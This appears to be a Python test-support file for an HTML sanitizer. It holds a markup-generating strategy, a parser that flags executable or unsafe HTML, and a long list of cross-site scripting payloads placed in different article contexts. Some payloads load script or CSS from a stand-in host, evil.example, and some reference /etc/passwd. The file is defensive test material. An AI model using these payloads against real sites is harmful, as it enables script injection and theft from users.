"""Hostile HTML, written for this project, and the probe that finds what is alive in a piece of HTML."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from hypothesis import strategies as st

from chassis.html import TAGS

# Any markup, well-formed or not.
MARKUP = st.lists(
    st.sampled_from(
        [f"<{t}>" for t in sorted(TAGS)]
        + [f"</{t}>" for t in sorted(TAGS)]
        + [
            "<script>",
            "</script>",
            "<svg>",
            "<style>",
            "<!--",
            "-->",
            "<b>",
            "</b>",
            "&lt;",
            "&",
            "<",
            "\n",
            "<div>",
            "</div>",
        ]
        + [
            "<a href='https://example.com/?a=1&b=2'>",
            "<img src=/a.png alt='\"<b>'>",
            "<img src=x onerror=y>",
            "text ",
            "<td",
        ]
    )
    | st.text(max_size=8),
    max_size=25,
).map("".join)


class Live(HTMLParser):
    """What in a piece of HTML a browser could run or fetch, beyond what is allowed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        allowed = {"a": {"href", "rel"}, "img": {"src", "alt"}}.get(tag, set())
        self.found += [f"{tag} {name}={value}" for name, value in attrs if not self.is_safe(name, value or "", allowed)]

    def is_safe(self, name: str, value: str, allowed: set[str]) -> bool:
        if name not in allowed:
            return False
        if name == "href":
            return urlsplit(value).scheme in {"http", "https"} and bool(urlsplit(value).netloc)
        if name == "src":
            internal = re.fullmatch(r"igny8-image:[0-9a-f-]{36}", value)
            return bool(internal) or (
                not value.startswith(("//", "\\", "/\\")) and urlsplit(value).scheme in {"", "http", "https"}
            )
        return True

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")


# One technique a line.
TECHNIQUES: tuple[str, ...] = (
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example')</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script x></script><script>alert(1)</script>",
    "<script>/*<p>*/alert(1)/*</p>*/</script>",
    "</script><script>alert(1)</script>",
    "<p><script>alert(1)</script>text</p>",
    "<table><script>alert(1)</script></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<script>\u2028alert(1)</script>",
    "<script charset=utf-7>+ADw-script+AD4-</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img \"\"\"><img src=x onerror=alert(1)>\"",
    "<p onclick=alert(1)>text</p>",
    "<h2 onmouseover=alert(1)>text</h2>",
    "<a href=https://example.com onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table onpointerenter=alert(1)><tr><td>x</td></tr></table>",
    "<figure onanimationend=alert(1)><img src=x></figure>",
    "<p onbeforecopy=alert(1) contenteditable>x</p>",
    "<em onwheel=alert(1)>x</em>",
    "<blockquote onauxclick=alert(1)>x</blockquote>",
    "<p/onclick=alert(1)>x",
    "<p a=\"b\"onclick=alert(1)>x",
    # links
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\tjavascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://example.com/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ftp://example.com'>x</a>",
    "<a href='igny8-image:0192d3a4-0000-7000-8000-000000000000'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href='http://'>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='jar:https://example.com!/x'>x</a>",
    "<a href='intent://x#Intent;scheme=http;end'>x</a>",
    "<a href='https://example.com' target=_blank>x</a>",
    "<a href='https://example.com' ping='https://evil.example'>x</a>",
    "<a href='https://example.com' rel=opener>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href='https://example.com' download>x</a>",
    "<a href='https://example.com' href=javascript:alert(1)>x</a>",
    # picture sources
    "<img src=javascript:alert(1)>",
    "<img src='java\nscript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='igny8-image:../../etc/passwd'>",
    "<img src='igny8-image:0192d3a4-0000-7000-8000-000000000000\" onerror=alert(1)'>",
    "<img src='igny8-image:not-a-uuid'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img src=x lowsrc=javascript:alert(1)>",
    "<img src=x dynsrc=javascript:alert(1)>",
    "<img src=x longdesc=javascript:alert(1)>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<img src='file:///etc/passwd'>",
    "<img src='x y'>",
    "<img src='about:blank'>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    # styles
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<p class=admin-only id=csrf>x</p>",
    # frames, forms, embeds
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>x</dialog>",
    # document level
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>",
    "<html manifest=x><body background=javascript:alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xml><i><b><![CDATA[<script>alert(1)</script>]]></b></i></xml>",
    # comments
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<! foo='><script>alert(1)</script>'>",
    "<![><img src=x onerror=alert(1)>]>",
    # foreign content and mutation
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style>{font-family:'<img/src=x/onerror=alert(1)>'}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg></p>",
    "<table><td><p title='</td></table><img src=x onerror=alert(1)>'>x</td></table>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    # text that must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<img src=x alt='<script>alert(1)</script>'>",
    "<img src=x alt='\"><script>alert(1)</script>'>",
    "<img src=x alt='&quot; onerror=&quot;alert(1)'>",
    # broken bytes and markup
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x on\x00error=alert(1)>",
    "<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<p\u3000onclick=alert(1)>x</p>",
    "<a href=\"https://example.com\"\" onclick=alert(1)>x</a>",
    "<p '\"><img src=x onerror=alert(1)>",
    "<p x='<img src=x onerror=alert(1)>'>x",
    "<",
    "<p",
    "</",
    "<p title=\"",
    "<a href='https://example.com/\"><script>alert(1)</script>'>x</a>",
    "{{constructor.constructor('alert(1)')()}}<script>alert(1)</script>",
    "<custom-element onclick=alert(1)><slot></slot></custom-element>",
    "<p is=evil-p>x</p>",
    "<p data-bind=\"html: alert(1)\" v-html=alert(1) x-init=alert(1) hx-on:click=alert(1)>x</p>",
)  # fmt: skip

# Where in an article a technique can stand; a parser reads each of them in another mode.
PLACES = (
    "{}",
    "<p>before {} after</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<blockquote><table>{}</table></blockquote>",
    "<figure><figcaption>{}</figcaption></figure>",
    "<ul><li><a href='https://example.com'>{}",
)
CORPUS = tuple(place.replace("{}", technique) for technique in TECHNIQUES for place in PLACES)


def standing_in(place: str) -> tuple[str, ...]:
    """Every technique, standing in one place."""
    return tuple(place.replace("{}", technique) for technique in TECHNIQUES)
